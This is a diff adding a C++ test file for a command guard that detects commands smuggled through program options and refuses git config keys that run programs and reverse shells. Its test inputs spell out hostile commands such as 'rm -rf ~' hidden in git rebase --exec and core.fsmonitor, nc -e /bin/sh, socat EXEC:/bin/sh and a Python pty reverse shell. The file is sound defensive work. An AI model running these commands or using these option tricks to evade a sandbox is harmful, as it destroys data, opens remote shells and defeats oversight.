@@ -1,0 +1,101 @@
+#include "guard/option_commands.h"
+
+#include <gtest/gtest.h>
+
+namespace mecha::guard {
+namespace {
+
+using V = std::vector<std::string>;
+
+// What a command runs by its options: scripts as "via: text", a refusal as "rule: reason".
+V runs(std::vector<std::string> words) {
+  std::vector<ShellWord> argv;
+  for (auto& w : words) argv.push_back(literal_word(w));
+  LookThrough lt = look_through(argv);
+  V out;
+  for (auto& c : lt.commands) {
+    std::string s = "cmd " + c.via + ":";
+    for (auto& w : c.argv) s += " " + w.shown();
+    out.push_back(s);
+  }
+  for (auto& s : lt.scripts) out.push_back(s.via + ": " + s.text.shown());
+  if (lt.not_understood) out.push_back(lt.rule + ": " + *lt.not_understood);
+  return out;
+}
+
+TEST(OptionCommands, GitRunsWhatItsOptionsAndSubcommandsName) {
+  EXPECT_EQ(runs({"git", "rebase", "-x", "make test", "main"}), V{"git rebase -x: make test"});
+  EXPECT_EQ(runs({"git", "rebase", "--exec=rm -rf ~", "main"}), V{"git rebase --exec: rm -rf ~"});
+  EXPECT_EQ(runs({"git", "submodule", "foreach", "--recursive", "git", "pull"}),
+            V{"git submodule foreach: git pull"});
+  EXPECT_EQ(runs({"git", "bisect", "run", "make", "test"}), V{"cmd git bisect run: make test"});
+  EXPECT_EQ(runs({"git", "status"}), V{});
+}
+
+TEST(OptionCommands, GitConfigOfKeysThatRunCommandsIsRefused) {
+  const std::string config = "git-config-runs-commands: `git config ";
+  const std::string why =
+      "` sets a key that makes git run a command or load one (it would run outside the sandbox "
+      "the next time git runs)";
+  EXPECT_EQ(runs({"git", "config", "core.fsmonitor", "rm -rf ~"}),
+            V{config + "core.fsmonitor" + why});
+  EXPECT_EQ(runs({"git", "config", "--local", "core.hooksPath", "/tmp/h"}),
+            V{config + "core.hooksPath" + why});
+  EXPECT_EQ(runs({"git", "config", "alias.st", "!rm -rf ~"}), V{config + "alias.st" + why});
+  EXPECT_EQ(runs({"git", "config", "set", "filter.x.clean", "x"}),
+            V{config + "filter.x.clean" + why});
+  EXPECT_EQ(runs({"git", "config", "include.path", "/tmp/x"}), V{config + "include.path" + why});
+  // Data keys, reads, unsets, plain aliases and a pager that only shows text are fine.
+  EXPECT_EQ(runs({"git", "config", "user.name", "Jane"}), V{});
+  EXPECT_EQ(runs({"git", "config", "--get", "core.pager"}), V{});
+  EXPECT_EQ(runs({"git", "config", "--unset", "core.fsmonitor"}), V{});
+  EXPECT_EQ(runs({"git", "config", "alias.st", "status -sb"}), V{});
+  EXPECT_EQ(runs({"git", "config", "core.pager", "less -R"}), V{});
+  EXPECT_EQ(runs({"git", "-c", "core.fsmonitor=x", "status"}),
+            V{"git-config-runs-commands: `git -c core.fsmonitor` makes git run or load a program"});
+}
+
+TEST(OptionCommands, ProgramsThatRunACommandByAnOption) {
+  EXPECT_EQ(runs({"ssh", "-o", "ProxyCommand=nc %h %p", "h"}), V{"ssh -o ProxyCommand: nc %h %p"});
+  EXPECT_EQ(runs({"ssh", "-oProxyCommand none", "h"}), V{});
+  EXPECT_EQ(runs({"rsync", "-avze", "ssh -p 2", "a", "h:b"}), V{"rsync -e: ssh -p 2"});
+  EXPECT_EQ(runs({"zip", "-TT", "unzip -t", "a.zip", "f"}), V{"zip -TT: unzip -t"});
+  EXPECT_EQ(runs({"man", "-P", "cat", "ls"}), V{"man -P: cat"});
+  EXPECT_EQ(runs({"tar", "-I", "zstd -19", "-cf", "a", "src"}), V{"tar -I: zstd -19"});
+  EXPECT_EQ(runs({"tar", "-cf", "a", "--checkpoint-action=exec=id", "src"}),
+            V{"tar --checkpoint-action: id"});
+  EXPECT_EQ(runs({"gdb", "-batch", "-ex", "shell id", "-ex", "run"}), V{"gdb shell: id"});
+  EXPECT_EQ(runs({"gdb", "--args", "./a.out", "x"}), V{"cmd gdb --args: ./a.out x"});
+  EXPECT_EQ(runs({"vim", "-c", ":silent !make", "f"}), V{"vim -c: make"});
+  EXPECT_EQ(runs({"vim", "-c", "wq!", "f"}), V{});
+  EXPECT_EQ(runs({"less", "+!id", "f"}), V{"less +!: id"});
+  EXPECT_EQ(runs({"awk", "{print $1 | \"sort -u\"}", "f"}), V{"awk system(): sort -u"});
+  EXPECT_EQ(runs({"alias", "ll=ls -l"}), V{"alias ll: ls -l"});
+  EXPECT_EQ(runs({"entr", "-s", "make && ./t"}), V{"entr -s: make && ./t"});
+}
+
+TEST(OptionCommands, ShellsJoinedToTheNetworkAreReverseShells) {
+  const std::string nc =
+      "reverse-shell: `nc` runs a program for a network connection: whoever is at the other end "
+      "runs commands the guard never sees";
+  EXPECT_EQ(runs({"nc", "-e", "/bin/sh", "h", "1"}), V{nc});
+  EXPECT_EQ(runs({"nc", "-l", "8080"}), V{});
+  EXPECT_EQ(runs({"socat", "TCP:h:1", "EXEC:/bin/sh"}),
+            V{"reverse-shell: `socat` joins a program to a network connection: whoever is at the "
+              "other end runs commands the guard never sees"});
+  EXPECT_EQ(runs({"python3", "-c", "import socket,pty;s=socket.socket();pty.spawn('sh')"}),
+            V{"reverse-shell: `python3` joins a shell to a network connection: whoever is at the "
+              "other end runs commands the guard never sees"});
+}
+
+TEST(OptionCommands, AwkCommands) {
+  AwkCommands a = awk_commands("BEGIN{system(\"id\"); \"date\" | getline d}");
+  EXPECT_EQ(a.commands, (V{"id", "date"}));
+  EXPECT_FALSE(a.dynamic);
+  EXPECT_TRUE(awk_commands("{system(\"rm \" $1)}").dynamic);
+  EXPECT_TRUE(awk_commands("{print | cmd}").dynamic);
+  EXPECT_EQ(awk_commands("$1 || $2").commands, V{});
+}
+
+}  // namespace
+}  // namespace mecha::guard
